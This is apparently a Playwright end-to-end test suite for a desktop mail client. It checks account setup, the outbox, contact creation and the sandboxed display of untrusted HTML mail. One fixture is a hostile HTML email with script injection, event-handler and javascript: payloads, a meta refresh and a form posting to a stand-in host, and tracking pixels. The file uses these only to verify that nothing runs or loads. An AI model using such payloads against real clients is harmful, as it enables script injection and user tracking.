// The mail area against a real backend whose mail servers cannot be
// reached (a closed port on 127.0.0.1): accounts, reading hostile mail
// safely, writing into the outbox, and contacts made from senders.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { BrowserContext, Page } from '@playwright/test';
import { test, expect, shot, createVault, closedPort } from './fixtures';
import { msg, langs } from './i18n';

/** A regular expression matching a translated message, any count. */
function pattern(lang: string, key: string, params: Record<string, unknown> = {}): RegExp {
  const escaped = msg(lang, key, { ...params, count: '\u0000' }).replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  return new RegExp(escaped.replace('\u0000', '\\d+'));
}

async function openVault(page: Page, url: string, lang: string) {
  await page.goto(url);
  if (lang !== 'en') await page.getByLabel(msg('en', 'settings.language')).selectOption(lang);
  await createVault(page);
}

/** Adds an account through the bound API (the form has its own test). */
async function addAccount(page: Page, port: number): Promise<number> {
  return page.evaluate(
    (port) =>
      // eslint-disable-next-line @typescript-eslint/no-explicit-any
      (window as any).go.app.MailAccounts.SaveAccount({
        id: 0, name: 'Atelier', address: 'moi@atelier.example', displayName: 'Claire Martin',
        imapHost: '127.0.0.1', imapPort: port, imapSecurity: 'none',
        smtpHost: '127.0.0.1', smtpPort: port, smtpSecurity: 'none',
        username: '', password: 'secret', caPem: '', pinnedCert: '', signature: 'Claire Martin — Atelier',
      }),
    port,
  );
}

interface Eml {
  from: string;
  subject: string;
  date: string;
  text?: string;
  html?: string;
  attachment?: { name: string; type: string; data: string };
}

function eml(m: Eml): string {
  const b = 'b-' + Math.random().toString(36).slice(2);
  const head = [`From: ${m.from}`, 'To: Claire Martin <moi@atelier.example>', `Subject: ${m.subject}`, `Date: ${m.date}`,
    `Message-ID: <${Math.random().toString(36).slice(2)}@test.example>`, 'MIME-Version: 1.0'];
  const parts: string[] = [];
  if (m.text) parts.push(`Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${m.text}`);
  if (m.html) parts.push(`Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${m.html}`);
  let body: string;
  if (m.attachment) {
    const alt = parts.length > 1 ? `Content-Type: multipart/alternative; boundary="${b}a"\r\n\r\n--${b}a\r\n${parts.join(`\r\n--${b}a\r\n`)}\r\n--${b}a--` : parts[0];
    body = `Content-Type: multipart/mixed; boundary="${b}"\r\n\r\n--${b}\r\n${alt}\r\n--${b}\r\n` +
      `Content-Type: ${m.attachment.type}; name="${m.attachment.name}"\r\nContent-Disposition: attachment; filename="${m.attachment.name}"\r\n` +
      `Content-Transfer-Encoding: base64\r\n\r\n${m.attachment.data}\r\n--${b}--\r\n`;
  } else if (parts.length > 1) {
    body = `Content-Type: multipart/alternative; boundary="${b}"\r\n\r\n--${b}\r\n${parts.join(`\r\n--${b}\r\n`)}\r\n--${b}--\r\n`;
  } else {
    body = parts[0];
  }
  return head.join('\r\n') + '\r\n' + body;
}

async function importEml(page: Page, accountId: number, m: Eml): Promise<number> {
  const b64 = Buffer.from(eml(m), 'utf8').toString('base64');
  // eslint-disable-next-line @typescript-eslint/no-explicit-any
  return page.evaluate(([id, data]) => (window as any).go.app.Mail.ImportFile(id, data), [accountId, b64] as const);
}

/** A few ordinary messages so the list looks like a working inbox. */
async function seedInbox(page: Page, accountId: number) {
  const now = Date.now();
  const at = (hoursAgo: number) => new Date(now - hoursAgo * 3600_000).toUTCString().replace('GMT', '+0000');
  await importEml(page, accountId, { from: 'Paul Lemaire <paul@boulangerie-lemaire.example>', subject: 'Commande de pains pour le salon', date: at(50),
    text: 'Bonjour Claire,\n\nPouvez-vous nous livrer 40 pains de campagne pour le salon du 12 ?\n\nMerci,\nPaul' });
  await importEml(page, accountId, { from: 'Comptabilité Fontaine <compta@fontaine.example>', subject: 'Facture F-2026-0042 réglée', date: at(26),
    text: 'Bonjour,\n\nNous avons réglé la facture F-2026-0042 par virement ce matin.\n\nCordialement', attachment: { name: 'avis-de-virement.pdf', type: 'application/pdf', data: Buffer.from('%PDF-1.4\n%test\n').toString('base64') } });
  await importEml(page, accountId, { from: 'Sophie Girard <sophie.girard@fromagerie.example>', subject: 'Rendez-vous jeudi ?', date: at(2),
    text: 'Bonjour Claire, seriez-vous disponible jeudi à 10 h pour parler du devis ?\nSophie' });
}

const hostile = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel=stylesheet href="https://tracker.example/s.css"></head><body>
<h2>Offre spéciale</h2>
<p>Bonjour, voici notre <a href="https://www.example.org/offre">offre du mois</a>.</p>
<script>window.parent.__pwned=1;window.__pwned=1</script>
<img src=x onerror="window.parent.__pwned=2">
<a href="javascript:window.parent.__pwned=3">click</a>
<svg onload="window.parent.__pwned=4"></svg>
<form action="https://evil.example/steal"><input name=a><button>go</button></form>
<div style="background:url(https://tracker.example/bg.png)">x</div>
<img src="https://tracker.example/pixel.gif" width=1 height=1>
<iframe src="https://evil.example/"></iframe>
<p>Cordialement, l'équipe</p>
</body></html>`;

/** Every request the page and its frames make; nothing leaves the machine. */
async function watchRequests(context: BrowserContext, origin: string): Promise<string[]> {
  const seen: string[] = [];
  context.on('request', (r) => seen.push(r.url()));
  const gif = Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');
  await context.route(
    (url) => !url.href.startsWith(origin),
    (route) => (route.request().url().includes('tracker.example/pixel.gif') ? route.fulfill({ body: gif, contentType: 'image/gif' }) : route.abort()),
  );
  return seen;
}

for (const lang of langs) {
  const m = (key: string, p?: Record<string, unknown>) => msg(lang, key, p);

  test(`an account through the form: saved offline, the refused connection explained (${lang})`, async ({ page, carnet }) => {
    const port = await closedPort();
    await openVault(page, carnet.url, lang);
    await page.getByRole('tab', { name: m('nav.mail') }).click();
    await expect(page.getByRole('heading', { name: m('mail.empty_title') })).toBeVisible();
    await shot(page, `mail-${lang}-no-account`);
    await page.getByRole('button', { name: m('mail.add_account') }).click();

    await page.getByLabel(m('mail.account.provider')).selectOption('gmail');
    await expect(page.getByRole('note')).toHaveText(m('mail.account.app_password_hint', { provider: 'Gmail / Google Workspace' }));
    await expect(page.locator('#af-imap-host')).toHaveValue('imap.gmail.com');
    await shot(page, `mail-${lang}-account-preset`);
    await page.getByLabel(m('mail.account.provider')).selectOption('');

    await page.getByLabel(m('mail.account.address')).fill('claire@atelier.example');
    await page.getByLabel(m('mail.account.display_name')).fill('Claire Martin');
    await page.getByLabel(m('mail.account.password'), { exact: true }).fill('secret');
    // No security towards a remote server is refused, in the form and by the backend.
    await page.locator('#af-imap-host').fill('imap.example.com');
    await page.locator('#af-imap-sec').selectOption('none');
    await expect(page.getByTestId('af-imap-cleartext')).toHaveText(m('error.mail_cleartext', { server: 'IMAP', host: 'imap.example.com' }));
    await page.locator('#af-smtp-host').fill('127.0.0.1');
    await page.getByRole('button', { name: m('common.save'), exact: true }).click();
    await expect(page.getByText(m('error.mail_cleartext', { server: 'IMAP', host: 'imap.example.com' }))).toHaveCount(2); // under the field and after Save
    for (const server of ['imap', 'smtp']) {
      await page.locator(`#af-${server}-host`).fill('127.0.0.1');
      await page.locator(`#af-${server}-sec`).selectOption('none');
      await page.locator(`#af-${server}-port`).fill(String(port));
    }
    await expect(page.getByTestId('af-imap-cleartext')).toHaveCount(0);
    await expect(page.getByText(m('mail.account.no_security_warning')).first()).toBeVisible();
    await page.getByLabel(m('mail.account.signature')).fill('Claire Martin\nAtelier Carnet');

    await page.getByRole('button', { name: m('mail.account.test') }).click();
    await expect(page.getByTestId('account-test-error')).toHaveText(m('error.mail_conn.refused', { server: 'IMAP', host: '127.0.0.1' }));
    await shot(page, `mail-${lang}-account-form`);

    await page.getByRole('button', { name: m('common.save'), exact: true }).click();
    await expect(page.getByText(m('mail.account.created'))).toBeVisible();
    // The folder list needs the server: offline, it says so and offers to try again.
    await expect(page.getByText(m('mail.folders.offline'))).toBeVisible();
    await expect(page.getByRole('button', { name: m('mail.folders.retry') })).toBeVisible();
    await expect(page.getByRole('checkbox', { name: m('mail.folder.inbox') })).toBeChecked();
    await expect(page.getByLabel(m('mail.account.password'), { exact: true })).toHaveAttribute('placeholder', m('mail.account.password_unchanged'));
    await shot(page, `mail-${lang}-account-saved`);

    // The account is in the list, with its inbox and the background sync's failure in plain words.
    const pane = page.getByRole('complementary', { name: m('mail.folders_label') });
    await expect(pane.getByText('claire@atelier.example')).toBeVisible();
    await pane.getByRole('button', { name: m('mail.folder.inbox') }).click();
    await expect(page.getByText(m('mail.folder_empty'))).toBeVisible();
    await expect(pane.getByRole('alert')).toHaveText(m('error.mail_conn.refused', { server: 'IMAP', host: '127.0.0.1' }));
  });

  test(`hostile HTML mail runs nothing and loads nothing until allowed (${lang})`, async ({ page, context, carnet }) => {
    const origin = new URL(carnet.url).origin;
    const requests = await watchRequests(context, origin);
    await openVault(page, carnet.url, lang);
    const account = await addAccount(page, await closedPort());
    await seedInbox(page, account);
    await importEml(page, account, { from: 'Mallory Promo <promo@evil.example>', subject: 'Offre exceptionnelle', date: new Date().toUTCString().replace('GMT', '+0000'),
      text: 'Offre spéciale', html: hostile });

    await page.getByRole('tab', { name: m('nav.mail') }).click();
    const rows = page.getByTestId('mail-row');
    await expect(rows).toHaveCount(4);
    await shot(page, `mail-${lang}-inbox`);
    await rows.filter({ hasText: 'Offre exceptionnelle' }).click();
    await expect(page.getByTestId('mail-subject')).toHaveText('Offre exceptionnelle');

    const frameEl = page.locator(`iframe[title="${m('mail.body')}"]`);
    await expect(frameEl).toHaveAttribute('sandbox', 'allow-same-origin');
    const body = page.frameLocator(`iframe[title="${m('mail.body')}"]`);
    await expect(body.getByText('Cordialement')).toBeVisible();
    const banner = page.getByTestId('remote-banner');
    await expect(banner).toContainText(pattern(lang, 'mail.remote_blocked_other'));
    // Anyone can write this From address and no provider vouched for it
    // (no Authentication-Results): the choice can only be for this message.
    await expect(banner.getByTestId('remote-unverified')).toHaveText(m('mail.remote_unverified'));
    await expect(banner.getByRole('button', { name: m('mail.remote_always') })).toHaveCount(0);
    await shot(page, `mail-${lang}-reader-blocked`);

    // Nothing ran, neither in the page nor in the frame.
    // eslint-disable-next-line @typescript-eslint/no-explicit-any
    const pwned = () => page.evaluate(() => [(window as any).__pwned, (document.querySelector('iframe') as any)?.contentWindow?.__pwned]);
    expect(await pwned()).toEqual([undefined, undefined]);
    const url = page.url();
    // The javascript: link survives only as its words: click them where they are.
    await expect(body.locator('body').locator('a[href^="javascript"], [onerror], [onload], script, form, iframe, svg, meta, link, [style*=url]')).toHaveCount(0);
    const box = await frameEl.boundingBox();
    const spot = await page.evaluate(() => {
      const doc = (document.querySelector('iframe') as HTMLIFrameElement).contentDocument!;
      const walker = doc.createTreeWalker(doc.body, NodeFilter.SHOW_TEXT);
      for (let n = walker.nextNode(); n; n = walker.nextNode()) {
        const i = n.textContent?.search(/\bclick\b/) ?? -1;
        if (i >= 0) {
          const range = doc.createRange();
          range.setStart(n, i);
          range.setEnd(n, i + 5);
          const r = range.getBoundingClientRect();
          return { x: r.x + r.width / 2, y: r.y + r.height / 2 };
        }
      }
      return null;
    });
    expect(spot).not.toBeNull();
    await page.mouse.click(box!.x + spot!.x, box!.y + spot!.y);
    await page.waitForTimeout(300);
    expect(await pwned()).toEqual([undefined, undefined]);
    expect(page.url()).toBe(url);
    await expect(page.getByRole('dialog')).toHaveCount(0);
    // Nothing but the bridge was asked for anything.
    expect(requests.filter((r) => !r.startsWith(origin) && !r.startsWith('about:') && !r.startsWith('data:'))).toEqual([]);

    // A real link: the user sees where it leads first, and the page stays put.
    await body.getByRole('link', { name: 'offre du mois' }).click();
    const dialog = page.getByRole('dialog');
    await expect(dialog).toContainText('https://www.example.org/offre');
    await expect(dialog).toContainText('www.example.org');
    await shot(page, `mail-${lang}-link-confirm`);
    await dialog.getByRole('button', { name: m('common.cancel') }).click();
    await expect(dialog).toHaveCount(0);
    expect(page.url()).toBe(url);
    await body.getByRole('link', { name: 'offre du mois' }).click();
    await page.getByRole('dialog').getByRole('button', { name: m('mail.link_open') }).click();
    // Handed to the browser (a new window in this test bridge), never opened here.
    await expect.poll(() => requests.some((r) => r.startsWith('https://www.example.org/offre'))).toBe(true);
    expect(page.url()).toBe(url);
    requests.length = 0;

    // Allowed for this message, the remote picture is asked for.
    await banner.getByRole('button', { name: m('mail.remote_load') }).click();
    await expect(banner).toHaveCount(0);
    await expect.poll(() => requests.some((r) => r.includes('tracker.example/pixel.gif'))).toBe(true);
    // …and really shown (the page's own policy lets the viewer's decide).
    await expect
      .poll(() =>
        page.evaluate(() => {
          const doc = (document.querySelector('iframe') as HTMLIFrameElement).contentDocument!;
          const img = doc.querySelector<HTMLImageElement>('img[src*="pixel.gif"]');
          return !!img && img.complete && img.naturalWidth > 0;
        }),
      )
      .toBe(true);
    expect(await pwned()).toEqual([undefined, undefined]);
    expect(requests.some((r) => r.includes('evil.example'))).toBe(false);
  });

  test(`a message with an attachment waits in the outbox, then is cancelled (${lang})`, async ({ page, carnet }) => {
    await openVault(page, carnet.url, lang);
    await addAccount(page, await closedPort());
    await page.getByRole('tab', { name: m('nav.mail') }).click();
    await page.getByRole('button', { name: m('mail.new_message') }).click();
    const form = page.getByRole('form', { name: m('mail.compose.new') });
    await form.getByLabel(m('mail.to'), { exact: true }).fill('Hélène Dupont <helene@boulangerie.example>');
    await form.getByRole('button', { name: m('mail.compose.show_copies') }).click();
    await form.getByLabel(m('mail.cc'), { exact: true }).fill('compta@atelier.example');
    await form.getByLabel(m('mail.subject')).fill('Devis pour le salon');
    await form.getByLabel(m('mail.compose.body')).fill('Bonjour Hélène,\n\nVoici le devis pour le salon.\n\nBien cordialement,');
    await form.locator('input[type=file]').setInputFiles({ name: 'devis-salon.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF-1.4\n%devis\n') });
    await expect(form.getByText('devis-salon.pdf')).toBeVisible();
    await shot(page, `mail-${lang}-composer`);
    await form.getByRole('button', { name: m('mail.send'), exact: true }).click();
    await expect(page.getByText(m('mail.queued'))).toBeVisible();

    await page.getByRole('button', { name: m('mail.see_outbox') }).click();
    const item = page.getByTestId('outbox-item');
    await expect(item).toContainText('Devis pour le salon');
    await expect(item).toContainText('helene@boulangerie.example');
    await expect(item).toContainText(m('mail.outbox.state.queued'));
    // The first attempt fails (no server); the reason shows, the message keeps waiting.
    await expect(page.getByTestId('outbox-error')).toContainText(m('mail.outbox.reason.refused', { host: '127.0.0.1' }));
    await expect(item).toContainText(m('mail.outbox.attempts_one', { count: 1 }));
    await expect(page.getByRole('tab', { name: m('nav.mail') })).toContainText('1');
    await shot(page, `mail-${lang}-outbox`);

    await item.getByRole('button', { name: m('mail.outbox.cancel') }).click();
    await expect(page.getByRole('dialog')).toContainText('Devis pour le salon');
    await page.getByRole('dialog').getByRole('button', { name: m('mail.outbox.cancel') }).click();
    await expect(page.getByText(m('mail.outbox.empty'))).toBeVisible();
    await expect(item).toHaveCount(0);
    await expect(page.getByRole('tab', { name: m('nav.mail') })).toHaveText(m('nav.mail'));
  });

  test(`a sender becomes a contact, and the message shows on their page (${lang})`, async ({ page, carnet }) => {
    await openVault(page, carnet.url, lang);
    const account = await addAccount(page, await closedPort());
    await importEml(page, account, { from: 'Hélène Dupont <helene@boulangerie.example>', subject: 'Question sur la facture', date: new Date().toUTCString().replace('GMT', '+0000'),
      text: 'Bonjour,\n\nPourriez-vous me renvoyer la facture de mars ?\n\nHélène',
      attachment: { name: 'bon-de-commande.pdf', type: 'application/pdf', data: Buffer.from('%PDF-1.4\n%commande\n').toString('base64') } });
    await page.getByRole('tab', { name: m('nav.mail') }).click();
    await page.getByTestId('mail-row').first().click();

    // The attachment is saved where the user chooses (the test bridge's folder).
    const files = page.getByRole('region', { name: m('mail.attachments') });
    await expect(files).toContainText('bon-de-commande.pdf');
    await files.getByRole('button', { name: m('mail.save') }).click();
    await expect(files).toContainText(m('mail.saved_to', { path: join(carnet.exportDir, 'bon-de-commande.pdf') }));
    expect(readFileSync(join(carnet.exportDir, 'bon-de-commande.pdf'), 'utf8')).toContain('%commande');

    const from = page.getByTestId('mail-from');
    await expect(from).toContainText('Hélène Dupont');
    await from.getByRole('button', { name: m('mail.add_contact') }).click();
    await expect(page.getByText(m('mail.contact_created', { name: 'Hélène Dupont' }))).toBeVisible();
    await expect(from.getByRole('button', { name: m('mail.add_contact') })).toHaveCount(0);
    await from.getByRole('button', { name: 'Hélène Dupont' }).click();

    await expect(page.getByTestId('contact-name')).toHaveText('Hélène Dupont');
    await expect(page.getByTestId('contact-source')).toHaveText(m('mail.source', { address: 'helene@boulangerie.example' }));
    const section = page.getByRole('region', { name: m('mail.contact.title') });
    await expect(section).toContainText('Question sur la facture');
    await shot(page, `mail-${lang}-contact`);
    await section.getByRole('button', { name: 'Question sur la facture' }).click();
    await expect(page.getByTestId('mail-subject')).toHaveText('Question sur la facture');

    // Ctrl+K finds it too.
    await page.keyboard.press('Control+k');
    await page.getByRole('combobox').fill('facture');
    const palette = page.getByRole('dialog', { name: m('search.title') });
    await expect(palette.getByRole('option', { name: /Question sur la facture/ })).toBeVisible();
    await expect(palette).toContainText(m('search.group.mail'));
    await shot(page, `mail-${lang}-search`);
    await page.keyboard.press('Enter');
    await expect(palette).toHaveCount(0);
    await expect(page.getByTestId('mail-subject')).toHaveText('Question sur la facture');
  });
}

test('an invoice goes to its customer through the composer, with its PDF (en)', async ({ page, carnet }) => {
  const m = (key: string, p?: Record<string, unknown>) => msg('en', key, p);
  await openVault(page, carnet.url, 'en');
  await page.getByRole('button', { name: m('contacts.try_demo') }).click();
  await expect(page.getByTestId('contact-count')).toHaveText(m('contacts.count_other', { count: 200 }));
  await page.getByRole('tab', { name: m('nav.sales') }).click();
  await page.getByRole('button', { name: m('sales.tab.invoice') }).click();
  await page.getByLabel(m('sales.status'), { exact: true }).selectOption('paid');
  await page.getByRole('list', { name: m('sales.tab.invoice') }).getByRole('button').first().click();
  const number = ((await page.getByTestId('doc-title').innerText()).match(/F-\d{4}-\d{4}/) ?? [''])[0];
  expect(number).not.toBe('');

  // Without an account, the way to add one is offered.
  await page.getByRole('button', { name: m('mail.send_document') }).click();
  await expect(page.getByRole('alert')).toContainText(m('error.no_mail_account'));
  await addAccount(page, await closedPort());
  await page.getByRole('button', { name: m('mail.send_document') }).click();

  const form = page.getByRole('form', { name: m('mail.compose.new') });
  await expect(form.getByLabel(m('mail.subject'))).toHaveValue(m('mail.document_subject.invoice', { number }));
  await expect(form.getByText(`${number}.pdf`)).toBeVisible();
  await shot(page, 'mail-en-invoice-composer');
  // Untouched, it closes at once; once typed in, leaving asks first.
  await form.getByLabel(m('mail.compose.body')).fill('Hello, here is your invoice.');
  await form.getByRole('button', { name: m('common.cancel') }).click();
  await expect(page.getByRole('dialog')).toContainText(m('mail.compose.discard_confirm'));
  await page.getByRole('dialog').getByRole('button', { name: m('common.cancel') }).click();
  await expect(form.getByLabel(m('mail.compose.body'))).toHaveValue('Hello, here is your invoice.');
  await form.getByRole('button', { name: m('common.cancel') }).click();
  await page.getByRole('dialog').getByRole('button', { name: m('mail.compose.discard') }).click();
  await expect(form).toHaveCount(0);
});

// The viewer's policy is the second wall behind the sanitiser: a message
// whose remote content is blocked must never be written into the document
// that allows it, not even for the moment its own document takes to load.
// (MessageView clears the message between two ids today, which also drops
// the frame; HtmlBody must hold the wall on its own when it is reused.)
test('going from a message with remote content loaded to a blocked one keeps the wall (en)', async ({ page, context, carnet }) => {
  const m = (key: string, p?: Record<string, unknown>) => msg('en', key, p);
  const origin = new URL(carnet.url).origin;
  const requests = await watchRequests(context, origin);
  await openVault(page, carnet.url, 'en');
  const account = await addAccount(page, await closedPort());
  const date = new Date().toUTCString().replace('GMT', '+0000');
  await importEml(page, account, { from: 'Lettre <lettre@news.example>', subject: 'Lettre de mai', date,
    html: '<p>Lettre de mai</p><img src="https://tracker.example/pixel.gif" width=1 height=1>' });
  await importEml(page, account, { from: 'Lettre <lettre@news.example>', subject: 'Lettre de juin', date,
    html: '<p>Lettre de juin</p><img src="https://tracker.example/juin.gif" width=1 height=1>' });

  await page.getByRole('tab', { name: m('nav.mail') }).click();
  const rows = page.getByTestId('mail-row');
  await rows.filter({ hasText: 'Lettre de mai' }).click();
  const body = page.frameLocator(`iframe[title="${m('mail.body')}"]`);
  await expect(body.getByText('Lettre de mai')).toBeVisible();
  await page.getByTestId('remote-banner').getByRole('button', { name: m('mail.remote_load') }).click();
  await expect.poll(() => requests.some((r) => r.includes('tracker.example/pixel.gif'))).toBe(true);
  await expect.poll(() => page.evaluate(() => document.querySelector('iframe')?.contentDocument?.URL ?? '')).toMatch(/viewer-remote\.html$/);

  // Watch the remote-allowed document: nothing of the next message may land in it.
  await page.evaluate(() => {
    const doc = document.querySelector('iframe')!.contentDocument!;
    const w = window as unknown as { __intoRemote: string[] };
    w.__intoRemote = [];
    new MutationObserver(() => w.__intoRemote.push(doc.body.innerHTML)).observe(doc.body, { childList: true, subtree: true, attributes: true });
  });
  await rows.filter({ hasText: 'Lettre de juin' }).click();
  await expect(body.getByText('Lettre de juin')).toBeVisible();
  await expect(page.getByTestId('remote-banner')).toBeVisible();
  expect(await page.evaluate(() => document.querySelector('iframe')?.contentDocument?.URL ?? '')).toMatch(/viewer-blocked\.html$/);
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => (window as unknown as { __intoRemote: string[] }).__intoRemote)).toEqual([]);
  expect(requests.some((r) => r.includes('tracker.example/juin.gif'))).toBe(false);
});
